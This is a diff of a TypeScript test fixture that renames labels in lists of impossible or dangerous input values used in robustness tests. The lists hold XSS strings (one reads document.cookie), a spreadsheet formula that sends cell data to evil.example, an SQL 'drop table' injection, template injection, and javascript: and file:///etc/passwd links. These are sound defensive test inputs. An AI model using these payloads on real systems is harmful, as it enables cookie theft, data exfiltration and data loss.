@@ -14,7 +14,7 @@ const dates: readonly (readonly [string, string])[] = [
   ['in the year 9999', '9999-12-31'],
   ['in the year 275760', '+275760-09-13T00:00:00Z'],
   ['in a time without a zone', '2026-11-05T14:00:00'],
-  ['in a zone that is none', '2026-11-05T14:00:00+99:99'],
+  ['in an invalid zone', '2026-11-05T14:00:00+99:99'],
   ['at the 25th hour', '2026-11-05T25:61:61Z'],
   ['as seconds since 1970', '1793851200'],
   ['in words', 'the first Tuesday after the second Monday'],
@@ -22,24 +22,24 @@ const dates: readonly (readonly [string, string])[] = [
 ];
 
 const amounts: readonly (readonly [string, unknown])[] = [
-  ['below nothing', '-250000'],
-  ['that is no number', 'NaN'],
-  ['without end', 'Infinity'],
+  ['below zero', '-250000'],
+  ['that is not a number', 'NaN'],
+  ['that is infinite', 'Infinity'],
   ['of four hundred digits', '9'.repeat(400)],
   ['in euros', '\u20ac1.250.000,00'],
   ['with words around it', 'approx. $1.2M (see budget)'],
   ['in another base', '0x1F4'],
 ];
 
-const dangerous: readonly (readonly [string, string])[] = [
+const dangerousTexts: readonly (readonly [string, string])[] = [
   ['a script', '<script>alert(document.cookie)</script>Road Salt'],
   ['an image that runs a script', 'Road Salt <img src=x onerror=alert(1)>'],
   ['markup that hides in entities', '&lt;svg/onload=alert(1)&gt; Road Salt &amp;lt;script&amp;gt;'],
   ['a formula', '=HYPERLINK("https://evil.example/"&A1,"Road Salt")'],
-  ['a command of a database', "Road Salt'; drop table opportunity; --"],
+  ['an SQL command', "Road Salt'; drop table opportunity; --"],
   ['a template', '{{constructor.constructor("return process")()}} ${7*7} Road Salt'],
-  ['signs that turn the direction of the text', 'Road \u202etlaS\u202c \u200bNorth\ufeff'],
-  ['thousands of marks over one letter', `Road S${'\u0301'.repeat(20_000)}alt`],
+  ['characters that reverse the direction of the text', 'Road \u202etlaS\u202c \u200bNorth\ufeff'],
+  ['thousands of combining marks on a letter', `Road S${'\u0301'.repeat(20_000)}alt`],
   ['a hundred thousand blanks', `Road${' '.repeat(100_000)}Salt`],
   ['a hundred thousand brackets', `Road Salt ${'<'.repeat(100_000)}`],
   ['a hundred thousand ampersands', `Road Salt ${'&'.repeat(100_000)}`],
@@ -47,49 +47,49 @@ const dangerous: readonly (readonly [string, string])[] = [
 
 const links: readonly (readonly [string, string])[] = [
   ['to a script', 'javascript:alert(1)'],
-  ['to a script that is not seen at first', ' java\tscript:alert(1)'],
-  ['that is the page itself', 'data:text/html,<script>alert(1)</script>'],
+  ['to a script, disguised with a tab', ' java\tscript:alert(1)'],
+  ['that contains a page', 'data:text/html,<script>alert(1)</script>'],
   ['to a file of this machine', 'file:///etc/passwd'],
   ['with a password in it', 'https://user:secret@evil.example/'],
   ['of a hundred thousand letters', `https://www.example.gov/${'a'.repeat(100_000)}`],
-  ['that is none', 'see attachment'],
+  ['that is not a URL', 'see attachment'],
 ];
 
 function withEach(
   role: Role,
-  say: (what: string) => string,
+  nameOf: (what: string) => string,
   list: readonly (readonly [string, unknown])[],
 ): Misbehaviour[] {
-  return list.map(([what, value]) => ({ name: say(what), ...oneWith(role, value), expects: may }));
+  return list.map(([what, value]) => ({ name: nameOf(what), ...oneWith(role, value), expects: may }));
 }
 
 const sentence = 'Road Salt and Sand for the North. ';
 
-/** Records with impossible or dangerous values. */
+/** Impossible or dangerous values of fields. */
 export const values: readonly Misbehaviour[] = [
   ...withEach('due', (what) => `has a due date ${what}`, dates),
   ...withEach('posted', (what) => `has a day of posting ${what}`, dates.slice(0, 5)),
   ...withEach('amount', (what) => `has an amount ${what}`, amounts),
   {
-    name: 'has an amount beyond all numbers',
+    name: 'has an amount beyond the range of numbers',
     ...oneWith('amount', verbatim('1e400')),
     appliesTo: allOf(json, has('amount')),
     expects: may,
   },
   {
-    name: 'has an amount below nothing, as a number',
+    name: 'has an amount below zero, as a number',
     ...oneWith('amount', -250_000),
     appliesTo: allOf(json, has('amount')),
     expects: may,
   },
   {
-    name: 'has an amount with a tail of digits',
+    name: 'has an amount with many decimal places',
     ...oneWith('amount', 1_250_000.1 + 0.2),
     appliesTo: allOf(json, has('amount')),
     expects: may,
   },
-  ...withEach('title', (what) => `has a title with ${what}`, dangerous),
-  ...withEach('description', (what) => `has a description with ${what}`, dangerous),
+  ...withEach('title', (what) => `has a title with ${what}`, dangerousTexts),
+  ...withEach('description', (what) => `has a description with ${what}`, dangerousTexts),
   ...withEach('link', (what) => `has a link ${what}`, links),
   {
     name: 'has a title with control characters',
